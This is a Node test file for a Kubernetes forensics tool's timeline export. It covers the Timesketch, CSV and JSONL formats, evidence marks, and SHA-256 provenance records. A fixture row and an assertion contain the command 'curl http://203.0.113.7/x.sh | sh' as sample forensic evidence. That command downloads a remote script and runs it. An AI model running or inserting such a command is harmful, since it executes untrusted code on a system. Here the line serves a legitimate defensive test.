// The one timeline export (extension and CLI): formats, marks, provenance.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { exportTimelineFile, timesketchDatetime, writeRows } from '../../../src/core/timeline/export.js';
import { emptyFilter } from '../../../src/core/timeline/filter.js';
import { timelineFromRows } from '../../../src/core/timeline/local.js';
import { TIMELINE_COLUMNS, type TimelineRow } from '../../../src/core/schema/timeline.js';
import { containerLogs, commandHistory } from '../../../src/core/schema/tables.js';
import { tempDir } from '../../support/tempDir.js';

const row = (i: number, over: Partial<TimelineRow> = {}): TimelineRow => ({
  Time: `2026-03-01T10:00:0${i}.1234567Z`,
  TimeSource: 'event',
  SourceTable: containerLogs.name,
  EventType: 'LogLine',
  Cluster: 'c',
  Namespace: 'prod',
  PodName: 'web',
  ContainerName: 'nginx',
  Summary: `line ${i}`,
  Severity: '',
  TechniqueId: '',
  RecordId: `r${i}`,
  Details: { Message: `line ${i}` },
  ...over,
});

const rows = [row(1), row(2, { SourceTable: commandHistory.name, EventType: 'Command', Summary: 'curl http://203.0.113.7/x.sh | sh' }), row(3, { Time: '', TimeSource: 'none' }), row(4, { TimeSource: 'creation', EventType: 'Finding' })];
const marks = { r2: { starred: true, tags: ['evidence'], comments: [{ text: 'the download', by: 'alice', at: '2026-12-01T10:00:00.000Z' }] } };

function sink(): { out: Writable; text: () => string } {
  const chunks: Buffer[] = [];
  return { out: new Writable({ write: (c, _e, cb) => (chunks.push(Buffer.from(c)), cb()) }), text: () => Buffer.concat(chunks).toString('utf8') };
}

test('Timesketch JSONL: message, ISO 8601 datetime with zone, timestamp_desc, every column; a star and tags as tag, comments as comment', async () => {
  const s = sink();
  const res = await writeRows(rows, 'timesketch', s.out, { marks });
  const lines = s.text().trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
  assert.equal(lines.length, 3, 'the row without a time cannot be placed in Timesketch');
  assert.equal(res.rowsLeftOut, 1, 'and it is counted, not dropped silently');
  const cmd = lines[1]!;
  assert.equal(cmd.message, 'curl http://203.0.113.7/x.sh | sh');
  assert.equal(cmd.datetime, '2026-03-01T10:00:02.123456+00:00');
  assert.equal(cmd.timestamp_desc, 'Command Time');
  for (const c of TIMELINE_COLUMNS) assert.ok(c.name in cmd, `${c.name} is carried`);
  assert.deepEqual(cmd.tag, ['starred', 'evidence']);
  assert.deepEqual(cmd.comment, ['alice 2026-12-01T10:00:00.000Z: the download']);
  assert.deepEqual(lines[0]!.tag, []);
  assert.equal(lines[2]!.timestamp_desc, 'Object Creation Time', 'a finding dated by its object\'s creation says so');
  assert.ok(!Number.isNaN(Date.parse(String(cmd.datetime))));
  assert.equal(timesketchDatetime('2026-03-01T10:00:00Z'), '2026-03-01T10:00:00.000000+00:00');
});

test('CSV and JSONL carry the marks as columns of their own', async () => {
  const csv = sink();
  await writeRows(rows, 'csv', csv.out, { marks });
  const lines = csv.text().split('\r\n');
  assert.equal(lines[0], '\ufeff' + [...TIMELINE_COLUMNS.map((c) => c.name), 'Starred', 'Tags', 'Comments'].join(','));
  assert.ok(lines[2]!.includes(',yes,evidence,'), lines[2]);
  const jsonl = sink();
  await writeRows(rows, 'jsonl', jsonl.out, { marks });
  const objs = jsonl.text().trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
  assert.equal(objs.length, 4, 'JSONL holds undated rows too');
  assert.deepEqual([objs[1]!.Starred, objs[1]!.Tags], [true, ['evidence']]);
});

test('an export file gets a provenance record beside it: source, filter, row count, tool, time and the file\'s own SHA-256', async () => {
  const dir = await tempDir('kfs-export-core-');
  const path = join(dir, 'starred.jsonl');
  const filter = { ...emptyFilter(), text: 'curl' };
  const res = await exportTimelineFile({
    source: timelineFromRows(rows),
    filter,
    format: 'timesketch',
    path,
    marks,
    origin: { kind: 'local', label: 'snap-1', snapshotId: 'snap-1', manifestDigest: 'abc' },
    now: () => new Date('2026-12-01T12:00:00Z'),
  });
  assert.equal(res.provenancePath, `${path}.provenance.json`);
  const p = JSON.parse(await readFile(res.provenancePath, 'utf8')) as Record<string, unknown>;
  const bytes = await readFile(path);
  assert.equal(p.sha256, createHash('sha256').update(bytes).digest('hex'));
  assert.equal(p.bytes, bytes.length);
  assert.equal(p.rows, 1);
  assert.deepEqual(p.filter, filter);
  assert.equal(p.filterDescription, 'text "curl"');
  assert.deepEqual(p.source, { kind: 'local', label: 'snap-1', snapshotId: 'snap-1', manifestDigest: 'abc' });
  assert.equal(p.exportedAt, '2026-12-01T12:00:00.000Z');
  assert.equal((p.tool as { name: string }).name, 'kubeforensys');
  assert.equal(p.format, 'timesketch');
});
